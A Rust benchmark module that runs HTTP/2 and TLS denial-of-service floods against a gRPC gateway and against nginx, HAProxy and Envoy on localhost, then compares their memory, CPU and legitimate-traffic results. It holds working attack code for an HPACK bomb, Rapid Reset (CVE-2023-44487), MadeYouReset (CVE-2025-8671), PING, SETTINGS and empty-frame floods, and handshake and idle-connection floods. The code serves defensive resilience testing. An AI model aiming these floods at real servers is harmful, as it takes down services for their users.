//! Issue 19: the gateway and nginx, HAProxy and Envoy under the same abuse,
//! side by side in one run. Each front is set up as [`crate::grpc_proxy`]
//! sets it up (TLS 1.3, client certificate required, HTTP/2 to the client,
//! h2c to the one echo backend), except that the gateway runs with its
//! shipped defaults: its handshake, `Hello` and misbehaviour limits are what
//! is measured.
//!
//! For every flood and every front, on a fresh process: a legitimate client
//! (from 127.0.0.1, the load's identity) sends unary calls one at a time on
//! a kept connection and opens a new connection four times a second, while
//! the attacker (from [`ATTACK_SOURCE`], another /24, with a certificate of
//! its own that the gateway's policy grants an account, so it is a tenant,
//! not a stranger) floods for `seconds`. Measured: the front's peak RSS
//! (sampled every 20 ms) over its idle RSS, the CPU it spent, the legitimate
//! client's success rate and p99, and what the front did to the attacker's
//! connections (how many it ended, and with which GOAWAY codes). Every loop
//! is bounded by the flood's deadline.

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::{Context as _, bail};
use bytes::{Bytes, BytesMut};
use prost::Message as _;
use rustls::pki_types::ServerName;
use spinlink_http2::frame::{self, Head, Reason, flag, kind};
use spinlink_http2::hpack::{Encoder, Indexing};
use spinlink_proto::{headers, paths};
use spinlink_tls::dev::DevPki;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::chain::Proc;
use crate::grpc_peers::{self as peers, Front, Kind, Peers};
use crate::grpc_wire::{self, Dialer, frame as grpc_frame};
use crate::report::Report;

/// Where the attacker's connections come from: another /24 than the
/// legitimate client's 127.0.0.1, as a different network would be.
pub const ATTACK_SOURCE: Ipv4Addr = Ipv4Addr::new(127, 0, 2, 1);

/// How long one legitimate call may take before it counts as failed.
const CALL_TIMEOUT: Duration = Duration::from_secs(2);
/// How long the legitimate client goes on after the flood (recovery).
const AFTER: Duration = Duration::from_secs(1);
/// Connections the idle-connections flood opens.
const IDLE_CONNS: usize = 1_000;

/// One kind of abuse.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Flood {
    /// Header blocks of one-octet references to one 4 KB table entry.
    HpackBomb,
    /// HEADERS then RST_STREAM, over and over (CVE-2023-44487).
    RapidReset,
    /// HEADERS then WINDOW_UPDATE(0), making the front reset the stream
    /// itself (MadeYouReset, CVE-2025-8671).
    MadeYouReset,
    /// PING frames, never reading the answers.
    PingFlood,
    /// Empty SETTINGS frames, never reading the ACKs.
    SettingsFlood,
    /// Empty DATA, PRIORITY and WINDOW_UPDATE(+1) frames.
    EmptyFrames,
    /// TLS handshakes without a client certificate, as fast as they go.
    HandshakeFlood,
    /// TCP connections that never send a byte.
    IdleConnections,
}

impl Flood {
    /// Every flood, in the order they run.
    pub const ALL: [Flood; 8] = [
        Flood::HpackBomb,
        Flood::RapidReset,
        Flood::MadeYouReset,
        Flood::PingFlood,
        Flood::SettingsFlood,
        Flood::EmptyFrames,
        Flood::HandshakeFlood,
        Flood::IdleConnections,
    ];

    fn name(self) -> &'static str {
        match self {
            Flood::HpackBomb => "hpack-bomb",
            Flood::RapidReset => "rapid-reset",
            Flood::MadeYouReset => "made-you-reset",
            Flood::PingFlood => "ping-flood",
            Flood::SettingsFlood => "settings-flood",
            Flood::EmptyFrames => "empty-frames",
            Flood::HandshakeFlood => "handshake-flood",
            Flood::IdleConnections => "idle-connections",
        }
    }

    fn what(self, attackers: usize) -> String {
        match self {
            Flood::HpackBomb => format!(
                "{attackers} connections, each sending header blocks of 60,000 one-octet references to one 4,038-octet table entry (~240 MB of header list per 61 KB block) on new streams; reconnecting when ended"
            ),
            Flood::RapidReset => format!(
                "{attackers} connections, each sending batches of 100 × (HEADERS of a valid call, RST_STREAM CANCEL)"
            ),
            Flood::MadeYouReset => format!(
                "{attackers} connections, each sending batches of 100 × (HEADERS of a valid call, WINDOW_UPDATE 0 on it)"
            ),
            Flood::PingFlood => format!(
                "{attackers} connections, each writing batches of 1,000 PINGs and never reading"
            ),
            Flood::SettingsFlood => format!(
                "{attackers} connections, each writing batches of 1,000 empty SETTINGS and never reading"
            ),
            Flood::EmptyFrames => format!(
                "{attackers} connections, each with one open call, sending batches of 1,000 × (empty DATA, PRIORITY, WINDOW_UPDATE +1)"
            ),
            Flood::HandshakeFlood => format!(
                "{} concurrent loops of TCP connect + TLS 1.3 handshake without a client certificate",
                attackers * 8
            ),
            Flood::IdleConnections => {
                format!("{IDLE_CONNS} TCP connections that send nothing, held for the whole flood")
            }
        }
    }
}

/// What to run.
#[derive(Debug, Clone)]
pub struct Options {
    /// The `spinlink` binary (the gateway).
    pub spinlink: PathBuf,
    /// nginx, HAProxy and Envoy binaries.
    pub peers: Peers,
    /// Scratch directory: PKI, configurations, logs.
    pub dir: PathBuf,
    /// Length of each flood.
    pub seconds: f64,
    /// Attacking connections per flood.
    pub attackers: usize,
    /// The floods to run (all when empty).
    pub floods: Vec<Flood>,
}

/// One flood against one front.
#[derive(Debug, Default)]
struct Row {
    idle_rss: u64,
    peak_rss: u64,
    cpu: f64,
    legit: Legit,
    attack: AttackSummary,
}

/// Runs every flood against every front and reports.
pub fn run(opts: &Options, r: &mut Report) -> anyhow::Result<()> {
    crate::grpc_proxy::raise_nofile();
    let mut agents = vec![
        grpc_wire::AGENT_ID.to_owned(),
        grpc_wire::ATTACKER_ID.to_owned(),
    ];
    agents.extend((0..grpc_wire::NEWCOMERS).map(grpc_wire::newcomer));
    let agents: Vec<&str> = agents.iter().map(String::as_str).collect();
    let pki = DevPki::ensure(&opts.dir.join("pki"), &agents)?;
    let dir = &opts.dir;
    let me = std::env::current_exe()?;
    let mut echo = Proc::start(&me, "echo", dir, &crate::grpc_echo::args(dir, &pki.dir)?)?;
    let echo_h2c: SocketAddr = echo
        .wait_line("listening: echo-h2c ", peers::START_WAIT)?
        .parse()?;

    let fronts = opts.peers.fronts(&opts.spinlink);
    let floods = if opts.floods.is_empty() {
        Flood::ALL.to_vec()
    } else {
        opts.floods.clone()
    };
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?;
    let msg = grpc_frame(
        &crate::grpc_echo::pb::EchoMessage {
            payload: vec![b'x'; 200],
        }
        .encode_to_vec(),
    );
    let gateway = |listen| peers::gateway_yaml(&pki, listen, echo_h2c, false);
    let seconds = Duration::from_secs_f64(opts.seconds);

    let mut versions = BTreeMap::new();
    let mut rows: Vec<(Flood, Kind, anyhow::Result<Row>)> = Vec::new();
    for (i, flood) in floods.iter().enumerate() {
        // Rotate the order so no front always follows the same one.
        for j in 0..fronts.len() {
            let (kind, bin) = &fronts[(i + j) % fronts.len()];
            let row = (|| {
                let front = Front::start(*kind, bin, &pki, dir, echo_h2c, &gateway)?;
                versions.insert(kind.name(), front.version.clone());
                rt.block_on(one(&pki, &front, *flood, seconds, opts.attackers, &msg))
            })();
            match &row {
                Ok(row) => eprintln!(
                    "  {} {}: peak +{:.1} MiB, legit {}/{}, new {}/{}",
                    flood.name(),
                    kind.name(),
                    mib(row.peak_rss.saturating_sub(row.idle_rss)),
                    row.legit.ok,
                    row.legit.ok + row.legit.failed,
                    row.legit.new_ok,
                    row.legit.new_ok + row.legit.new_failed
                ),
                Err(e) => eprintln!("  {} {}: failed: {e:#}", flood.name(), kind.name()),
            }
            rows.push((*flood, *kind, row));
        }
    }
    drop(rt);
    drop(echo);

    r.line(format!(
        "- fronts: {}",
        versions
            .iter()
            .map(|(k, v)| format!("{k}: {v}"))
            .collect::<Vec<_>>()
            .join("; ")
    ));
    r.line(format!(
        "- each flood {:.0} s against a fresh process of each front, set up as in the gateway-vs-peers bench (TLS 1.3, client certificate required, h2c to one echo backend); the gateway with its shipped listener defaults and a policy granting the attacker's certificate an account of its own",
        opts.seconds
    ));
    r.line(format!(
        "- legitimate client (127.0.0.1): unary calls one at a time on a kept connection (5 ms apart, {} s timeout), and a new connection with one call every 250 ms ({} agents taking turns, so each says `Hello` every few seconds, as agents do), during the flood and {} s after it; attacker from {ATTACK_SOURCE}",
        CALL_TIMEOUT.as_secs(),
        grpc_wire::NEWCOMERS,
        AFTER.as_secs()
    ));
    for flood in &floods {
        r.line(format!(
            "- {}: {}",
            flood.name(),
            flood.what(opts.attackers)
        ));
    }
    r.line(String::new());
    r.line("| flood | front | idle RSS (MiB) | peak over idle (MiB) | front CPU (s) | legit calls ok | legit p99 (ms) | legit new conns ok | attacker's connections: opened / ended by the front (GOAWAY codes) |");
    r.line("|---|---|---|---|---|---|---|---|---|");
    for (flood, kind, row) in &rows {
        match row {
            Ok(row) => r.line(format!(
                "| {} | {} | {:.1} | {:.1} | {:.2} | {} | {} | {} | {} |",
                flood.name(),
                kind.name(),
                mib(row.idle_rss),
                mib(row.peak_rss.saturating_sub(row.idle_rss)),
                row.cpu,
                rate(row.legit.ok, row.legit.failed),
                row.legit
                    .p99()
                    .map_or("–".into(), |d| format!("{:.2}", d.as_secs_f64() * 1e3)),
                rate(row.legit.new_ok, row.legit.new_failed),
                row.attack
            )),
            Err(e) => r.line(format!(
                "| {} | {} | failed: {e:#} |||||||",
                flood.name(),
                kind.name()
            )),
        }
    }
    r.line(String::new());
    for flood in &floods {
        r.line(verdict(*flood, &rows));
    }
    Ok(())
}

/// The gateway against the best peer on one flood's row.
fn verdict(flood: Flood, rows: &[(Flood, Kind, anyhow::Result<Row>)]) -> String {
    let of = |k: Kind| {
        rows.iter()
            .find(|(f, kind, _)| *f == flood && *kind == k)
            .and_then(|(_, _, r)| r.as_ref().ok())
    };
    let Some(gw) = of(Kind::Gateway) else {
        return format!("- {}: the gateway was not measured", flood.name());
    };
    let growth = |r: &Row| r.peak_rss.saturating_sub(r.idle_rss);
    let success = |r: &Row| {
        let total = r.legit.ok + r.legit.failed + r.legit.new_ok + r.legit.new_failed;
        if total == 0 {
            0.0
        } else {
            (r.legit.ok + r.legit.new_ok) as f64 / total as f64
        }
    };
    let peers: Vec<&Row> = [Kind::Nginx, Kind::Haproxy, Kind::Envoy]
        .into_iter()
        .filter_map(of)
        .collect();
    let best_growth = peers.iter().map(|r| growth(r)).min();
    let best_success = peers
        .iter()
        .map(|r| success(r))
        .fold(None, |a: Option<f64>, s| Some(a.map_or(s, |a| a.max(s))));
    format!(
        "- {}: gateway peak +{:.1} MiB (best peer +{}), legitimate success {:.1} % (best peer {})",
        flood.name(),
        mib(growth(gw)),
        best_growth.map_or("–".into(), |g| format!("{:.1} MiB", mib(g))),
        success(gw) * 100.0,
        best_success.map_or("–".into(), |s| format!("{:.1} %", s * 100.0)),
    )
}

fn mib(b: u64) -> f64 {
    b as f64 / 1_048_576.0
}

fn rate(ok: u64, failed: u64) -> String {
    let total = ok + failed;
    if total == 0 {
        return "–".into();
    }
    format!("{ok}/{total} ({:.1} %)", ok as f64 / total as f64 * 100.0)
}

/// One flood against one fresh front.
async fn one(
    pki: &DevPki,
    front: &Front,
    flood: Flood,
    seconds: Duration,
    attackers: usize,
    msg: &Bytes,
) -> anyhow::Result<Row> {
    let gateway = front.kind == Kind::Gateway;
    let dialer = Dialer::new(pki, front.addr, gateway)?;
    // Warm up: the front has served the legitimate client before it is idle.
    let mut conn = dialer.connect().await?;
    for _ in 0..50 {
        conn.unary(paths::CACHE, msg.clone()).await?;
    }
    drop(conn);
    tokio::time::sleep(Duration::from_millis(500)).await;
    let pids = peers::process_tree(front.pid());
    let idle_rss = peers::rss(&pids);

    let stop = Arc::new(AtomicBool::new(false));
    let sampler = {
        let (pids, stop) = (pids.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut peak = 0;
            while !stop.load(Ordering::Relaxed) {
                peak = peak.max(peers::rss(&pids));
                std::thread::sleep(Duration::from_millis(20));
            }
            peak
        })
    };
    let newcomers = (0..grpc_wire::NEWCOMERS)
        .map(|n| Dialer::for_agent(pki, front.addr, gateway, &grpc_wire::newcomer(n)))
        .collect::<anyhow::Result<Vec<_>>>()?;
    let legit = tokio::spawn(legit(dialer, newcomers, stop.clone(), msg.clone()));
    let cpu0 = peers::cpu_seconds(&pids);
    let attacker = Attacker::new(pki, front.addr, gateway)?;
    let deadline = Instant::now() + seconds;
    let attack = attacker.run(flood, attackers, deadline).await;
    let cpu = peers::cpu_seconds(&pids) - cpu0;
    tokio::time::sleep(AFTER).await;
    stop.store(true, Ordering::Relaxed);
    let legit = legit.await?;
    let peak_rss = sampler.join().map_err(|_| anyhow::anyhow!("sampler"))?;
    Ok(Row {
        idle_rss,
        peak_rss: peak_rss.max(idle_rss),
        cpu,
        legit,
        attack,
    })
}

/// What the legitimate client saw.
#[derive(Debug, Default)]
struct Legit {
    ok: u64,
    failed: u64,
    latencies: Vec<Duration>,
    new_ok: u64,
    new_failed: u64,
}

impl Legit {
    fn p99(&self) -> Option<Duration> {
        let mut l = self.latencies.clone();
        if l.is_empty() {
            return None;
        }
        l.sort();
        Some(l[(l.len() * 99).div_ceil(100).saturating_sub(1)])
    }
}

/// Calls one at a time on a kept connection, and a new connection every
/// 250 ms (the newcomers taking turns), until `stop`.
async fn legit(dialer: Dialer, newcomers: Vec<Dialer>, stop: Arc<AtomicBool>, msg: Bytes) -> Legit {
    let mut l = Legit::default();
    let mut turn = newcomers.iter().cycle();
    let mut conn = None;
    let mut next_new = Instant::now();
    while !stop.load(Ordering::Relaxed) {
        if Instant::now() >= next_new {
            next_new += Duration::from_millis(250);
            let Some(newcomer) = turn.next() else { break };
            let fresh = tokio::time::timeout(CALL_TIMEOUT, async {
                let mut c = newcomer.connect().await?;
                c.unary(paths::CACHE, msg.clone()).await
            })
            .await;
            match fresh {
                Ok(Ok(_)) => l.new_ok += 1,
                _ => l.new_failed += 1,
            }
            continue;
        }
        if conn.is_none() {
            match tokio::time::timeout(CALL_TIMEOUT, dialer.connect()).await {
                Ok(Ok(c)) => conn = Some(c),
                _ => {
                    l.failed += 1;
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                }
            }
        }
        let Some(c) = conn.as_mut() else { continue };
        let t = Instant::now();
        match tokio::time::timeout(CALL_TIMEOUT, c.unary(paths::CACHE, msg.clone())).await {
            Ok(Ok(_)) => {
                l.ok += 1;
                l.latencies.push(t.elapsed());
            }
            _ => {
                l.failed += 1;
                conn = None;
            }
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    l
}

/// What the attacker saw.
#[derive(Debug, Default)]
struct AttackSummary {
    opened: u64,
    ended: u64,
    refused: u64,
    goaway: BTreeMap<String, u64>,
}

impl std::fmt::Display for AttackSummary {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} / {}", self.opened, self.ended)?;
        if self.refused > 0 {
            write!(f, ", {} refused", self.refused)?;
        }
        if !self.goaway.is_empty() {
            let codes: Vec<String> = self
                .goaway
                .iter()
                .map(|(c, n)| format!("{c} ×{n}"))
                .collect();
            write!(f, " ({})", codes.join(", "))?;
        }
        Ok(())
    }
}

#[derive(Default)]
struct Counters {
    opened: AtomicU64,
    ended: AtomicU64,
    refused: AtomicU64,
    goaway: Mutex<BTreeMap<String, u64>>,
}

impl Counters {
    fn goaway(&self, reason: Reason) {
        let mut g = self.goaway.lock().unwrap_or_else(|e| e.into_inner());
        *g.entry(reason.name().to_owned()).or_default() += 1;
    }
}

/// The attacker: raw HTTP/2 over TLS from [`ATTACK_SOURCE`].
#[derive(Clone)]
struct Attacker {
    addr: SocketAddr,
    with_cert: TlsConnector,
    without_cert: TlsConnector,
    /// Whether the front is the gateway, which wants a `Hello` first.
    gateway: bool,
    counters: Arc<Counters>,
}

type Tls = TlsStream<TcpStream>;

/// A frame as read: its head and payload.
async fn read_frame<R: AsyncRead + Unpin>(r: &mut R) -> anyhow::Result<(Head, Vec<u8>)> {
    let mut head = [0u8; frame::HEAD_LEN];
    r.read_exact(&mut head).await?;
    let head = Head::parse(&head).context("frame head")?;
    let mut payload = vec![0; head.len];
    r.read_exact(&mut payload).await?;
    Ok((head, payload))
}

fn goaway_reason(payload: &[u8]) -> Reason {
    Reason(
        payload
            .get(4..8)
            .map_or(0, |b| u32::from_be_bytes([b[0], b[1], b[2], b[3]])),
    )
}

impl Attacker {
    fn new(pki: &DevPki, addr: SocketAddr, gateway: bool) -> anyhow::Result<Self> {
        Ok(Self {
            addr,
            with_cert: TlsConnector::from(Arc::new(grpc_wire::tls13_client(
                pki,
                Some(grpc_wire::ATTACKER_ID),
            )?)),
            without_cert: TlsConnector::from(Arc::new(grpc_wire::tls13_client(pki, None)?)),
            gateway,
            counters: Arc::default(),
        })
    }

    async fn tcp(&self) -> anyhow::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(ATTACK_SOURCE.into(), 0))?;
        let tcp = socket.connect(self.addr).await?;
        tcp.set_nodelay(true)?;
        Ok(tcp)
    }

    /// A TLS connection with the HTTP/2 prefaces exchanged (the server's
    /// SETTINGS acknowledged) and, on the gateway, a channel token from
    /// `Hello` (on stream 1); the header block of a valid call, which adds
    /// nothing to the HPACK table; and the first stream id free for it.
    async fn open(&self) -> anyhow::Result<(Tls, BytesMut, u32)> {
        let tcp = self.tcp().await?;
        let mut tls = self
            .with_cert
            .connect(ServerName::try_from("localhost")?.to_owned(), tcp)
            .await?;
        let mut out = BytesMut::from(&frame::PREFACE[..]);
        frame::Settings::default().write(&mut out);
        tls.write_all(&out).await?;
        loop {
            let (head, _) = read_frame(&mut tls).await?;
            if head.kind == kind::SETTINGS && head.flags & flag::ACK == 0 {
                let mut ack = BytesMut::new();
                frame::write_settings_ack(&mut ack);
                tls.write_all(&ack).await?;
                break;
            }
        }
        let mut enc = Encoder::new(4096);
        let token = if self.gateway {
            hello(&mut tls, &mut enc).await?
        } else {
            "none".to_owned()
        };
        let mut call = BytesMut::new();
        encode_call(
            &mut enc,
            paths::CACHE,
            grpc_wire::ATTACKER_ID,
            &token,
            &mut call,
        );
        Ok((tls, call, if self.gateway { 3 } else { 1 }))
    }

    /// Runs `flood` until `deadline`.
    async fn run(&self, flood: Flood, attackers: usize, deadline: Instant) -> AttackSummary {
        let mut tasks = Vec::new();
        match flood {
            Flood::HandshakeFlood => {
                for _ in 0..attackers * 8 {
                    let a = self.clone();
                    tasks.push(tokio::spawn(async move { a.handshakes(deadline).await }));
                }
            }
            Flood::IdleConnections => {
                let a = self.clone();
                tasks.push(tokio::spawn(async move { a.idle(deadline).await }));
            }
            _ => {
                for _ in 0..attackers {
                    let a = self.clone();
                    tasks.push(tokio::spawn(
                        async move { a.connections(flood, deadline).await },
                    ));
                }
            }
        }
        for t in tasks {
            let _ = t.await;
        }
        let c = &self.counters;
        AttackSummary {
            opened: c.opened.load(Ordering::Relaxed),
            ended: c.ended.load(Ordering::Relaxed),
            refused: c.refused.load(Ordering::Relaxed),
            goaway: c.goaway.lock().map(|g| g.clone()).unwrap_or_default(),
        }
    }

    /// One attacking connection after another until `deadline`.
    async fn connections(&self, flood: Flood, deadline: Instant) {
        while Instant::now() < deadline {
            let left = deadline.saturating_duration_since(Instant::now());
            let opened = tokio::time::timeout(left, self.open()).await;
            let Ok(opened) = opened else { return };
            let Ok((tls, call, first_id)) = opened else {
                self.counters.refused.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(10)).await;
                continue;
            };
            self.counters.opened.fetch_add(1, Ordering::Relaxed);
            if self.flood(flood, tls, call, first_id, deadline).await {
                self.counters.ended.fetch_add(1, Ordering::Relaxed);
            }
        }
    }

    /// Floods one connection until `deadline`; whether the front ended it
    /// first.
    async fn flood(
        &self,
        flood: Flood,
        tls: Tls,
        call: BytesMut,
        first_id: u32,
        deadline: Instant,
    ) -> bool {
        let reads = !matches!(flood, Flood::PingFlood | Flood::SettingsFlood);
        let (mut rd, mut wr) = tokio::io::split(tls);
        let closed = Arc::new(AtomicBool::new(false));
        let reader = reads.then(|| {
            let (closed, counters) = (closed.clone(), self.counters.clone());
            tokio::spawn(async move {
                loop {
                    match read_frame(&mut rd).await {
                        Ok((head, payload)) if head.kind == kind::GOAWAY => {
                            counters.goaway(goaway_reason(&payload));
                        }
                        Ok(_) => {}
                        Err(_) => break,
                    }
                }
                closed.store(true, Ordering::Relaxed);
            })
        });
        let mut id = first_id;
        let mut batch = BytesMut::new();
        let mut first_bomb = true;
        let ended = loop {
            if closed.load(Ordering::Relaxed) {
                break true;
            }
            if Instant::now() >= deadline || id > 0x7fff_0000 {
                break false;
            }
            batch.clear();
            match flood {
                Flood::HpackBomb => {
                    let mut block = BytesMut::from(&call[..]);
                    let refs = if first_bomb {
                        bomb_entry(&mut block);
                        58_000
                    } else {
                        60_000
                    };
                    first_bomb = false;
                    // Index 62: the newest dynamic entry, the bomb's.
                    block.extend_from_slice(&vec![0x80 | 62; refs]);
                    frame::write_headers(&mut batch, id, &block, false, 16_384);
                    id += 2;
                }
                Flood::RapidReset | Flood::MadeYouReset => {
                    for _ in 0..100 {
                        frame::write_headers(&mut batch, id, &call, false, 16_384);
                        if flood == Flood::RapidReset {
                            frame::write_reset(&mut batch, id, Reason::CANCEL);
                        } else {
                            raw_window_update(&mut batch, id, 0);
                        }
                        id += 2;
                    }
                }
                Flood::PingFlood => {
                    for i in 0..1_000u64 {
                        frame::write_ping(&mut batch, false, i.to_be_bytes());
                    }
                }
                Flood::SettingsFlood => {
                    for _ in 0..1_000 {
                        frame::Settings::default().write(&mut batch);
                    }
                }
                Flood::EmptyFrames => {
                    if id == first_id {
                        frame::write_headers(&mut batch, first_id, &call, false, 16_384);
                        id += 2;
                    }
                    for _ in 0..1_000 {
                        frame::write_data(&mut batch, first_id, &[], false);
                        Head {
                            len: 5,
                            kind: kind::PRIORITY,
                            flags: 0,
                            stream: id,
                        }
                        .write(&mut batch);
                        batch.extend_from_slice(&[0, 0, 0, 0, 15]);
                        raw_window_update(&mut batch, 0, 1);
                    }
                }
                Flood::HandshakeFlood | Flood::IdleConnections => break false,
            }
            let left = deadline.saturating_duration_since(Instant::now());
            match tokio::time::timeout(left, wr.write_all(&batch)).await {
                Ok(Ok(())) => {}
                Ok(Err(_)) => break true,
                Err(_) => break false,
            }
        };
        if let Some(mut r) = reader {
            // Ended by the front: let the reader take what it sent last
            // (its GOAWAY) before the socket is gone.
            if !ended
                || tokio::time::timeout(Duration::from_millis(500), &mut r)
                    .await
                    .is_err()
            {
                r.abort();
            }
        }
        ended
    }

    /// Full TLS handshakes without a client certificate, one after another.
    async fn handshakes(&self, deadline: Instant) {
        let name = ServerName::try_from("localhost").map(|n| n.to_owned());
        let Ok(name) = name else { return };
        while Instant::now() < deadline {
            let left = deadline.saturating_duration_since(Instant::now());
            let one = tokio::time::timeout(left, async {
                let tcp = self.tcp().await?;
                let mut tls = self.without_cert.connect(name.clone(), tcp).await?;
                // TLS 1.3: the server refuses the missing certificate after
                // the client's Finished; read to see it do so.
                let mut b = [0u8; 1];
                let _ = tls.read(&mut b).await;
                anyhow::Ok(())
            })
            .await;
            match one {
                Ok(Ok(())) => self.counters.opened.fetch_add(1, Ordering::Relaxed),
                Ok(Err(_)) => self.counters.refused.fetch_add(1, Ordering::Relaxed),
                Err(_) => return,
            };
        }
    }

    /// Opens [`IDLE_CONNS`] connections that say nothing and holds them;
    /// counts those the front closed by the deadline.
    async fn idle(&self, deadline: Instant) {
        let mut held = Vec::new();
        while held.len() < IDLE_CONNS && Instant::now() < deadline {
            let left = deadline.saturating_duration_since(Instant::now());
            match tokio::time::timeout(left, self.tcp()).await {
                Ok(Ok(s)) => {
                    self.counters.opened.fetch_add(1, Ordering::Relaxed);
                    held.push(s);
                }
                Ok(Err(_)) => {
                    self.counters.refused.fetch_add(1, Ordering::Relaxed);
                }
                Err(_) => break,
            }
        }
        tokio::time::sleep_until(deadline.into()).await;
        let mut buf = [0u8; 64];
        for s in &held {
            let closed = match s.try_read(&mut buf) {
                Ok(0) => true,
                Ok(_) => false,
                Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
            };
            if closed {
                self.counters.ended.fetch_add(1, Ordering::Relaxed);
            }
        }
    }
}

/// A literal field with incremental indexing, written by hand (an honest
/// encoder would not index it): `x-bomb` with a 4,000-octet value, an entry
/// of 4,038 octets that fills the default 4,096-octet table alone.
fn bomb_entry(out: &mut BytesMut) {
    out.extend_from_slice(&[0x40, 6]);
    out.extend_from_slice(b"x-bomb");
    // 4,000 in a 7-bit prefix: 127, then 3,873 in 7-bit groups.
    out.extend_from_slice(&[0x7f, 0x80 | (3873 & 0x7f) as u8, (3873 >> 7) as u8]);
    out.extend_from_slice(&[b'a'; 4000]);
}

/// WINDOW_UPDATE with any increment, 0 included (which the engine's writer
/// refuses to make).
fn raw_window_update(out: &mut BytesMut, stream: u32, increment: u32) {
    Head {
        len: 4,
        kind: kind::WINDOW_UPDATE,
        flags: 0,
        stream,
    }
    .write(out);
    out.extend_from_slice(&increment.to_be_bytes());
}

/// The header block of a gRPC call of `path` as an agent sends it, with
/// nothing added to the HPACK table, so the same bytes can be sent again
/// and again.
fn encode_call(enc: &mut Encoder, path: &str, account: &str, token: &str, out: &mut BytesMut) {
    let fields: [(&[u8], &[u8]); 8] = [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":authority", b"localhost"),
        (b":path", path.as_bytes()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        (headers::ACCOUNT.as_bytes(), account.as_bytes()),
        (headers::TOKEN.as_bytes(), token.as_bytes()),
    ];
    enc.encode(
        fields.iter().map(|(n, v)| (*n, *v, Indexing::NotIndexed)),
        out,
    );
}

/// `Hello` on stream 1, by hand; the channel token granted for the
/// attacker's account.
async fn hello(tls: &mut Tls, enc: &mut Encoder) -> anyhow::Result<String> {
    use spinlink_proto::v1::{AccountInfo, HelloRequest, HelloResponse};
    let req = HelloRequest {
        agent_id: grpc_wire::ATTACKER_ID.into(),
        agent_version: "spinlink-bench hostile".into(),
        accounts: vec![AccountInfo {
            name: grpc_wire::ATTACKER_ID.into(),
            ..Default::default()
        }],
    };
    let mut block = BytesMut::new();
    encode_call(
        enc,
        paths::HELLO,
        grpc_wire::ATTACKER_ID,
        "none",
        &mut block,
    );
    let mut out = BytesMut::new();
    frame::write_headers(&mut out, 1, &block, false, 16_384);
    frame::write_data(&mut out, 1, &grpc_frame(&req.encode_to_vec()), true);
    tls.write_all(&out).await?;
    let mut body = Vec::new();
    loop {
        let (head, payload) = read_frame(tls).await?;
        match head.kind {
            kind::DATA if head.stream == 1 => body.extend_from_slice(&payload),
            kind::GOAWAY => bail!("GOAWAY {} during Hello", goaway_reason(&payload)),
            kind::RST_STREAM if head.stream == 1 => bail!("Hello reset"),
            _ => {}
        }
        if head.stream == 1 && head.flags & flag::END_STREAM != 0 {
            break;
        }
    }
    let answer = HelloResponse::decode(body.get(5..).context("no Hello answer")?)?;
    answer
        .granted
        .into_iter()
        .find(|g| g.account == grpc_wire::ATTACKER_ID)
        .map(|g| g.token)
        .context("Hello granted the attacker no token")
}

/// Flags of `hostile`.
#[derive(Debug, clap::Args)]
pub struct Args {
    #[command(flatten)]
    peers: Peers,
    /// Seconds per flood.
    #[arg(long, default_value_t = 5.0)]
    seconds: f64,
    /// Attacking connections per flood.
    #[arg(long, default_value_t = 4)]
    attackers: usize,
    /// Floods to run, comma-separated (default: all).
    #[arg(long, value_enum, value_delimiter = ',')]
    floods: Vec<Flood>,
}

/// Runs `hostile` with `args`.
pub fn command(args: Args, spinlink: PathBuf, dir: PathBuf, r: &mut Report) -> anyhow::Result<()> {
    run(
        &Options {
            spinlink,
            peers: args.peers,
            dir,
            seconds: args.seconds,
            attackers: args.attackers.max(1),
            floods: args.floods,
        },
        r,
    )
}
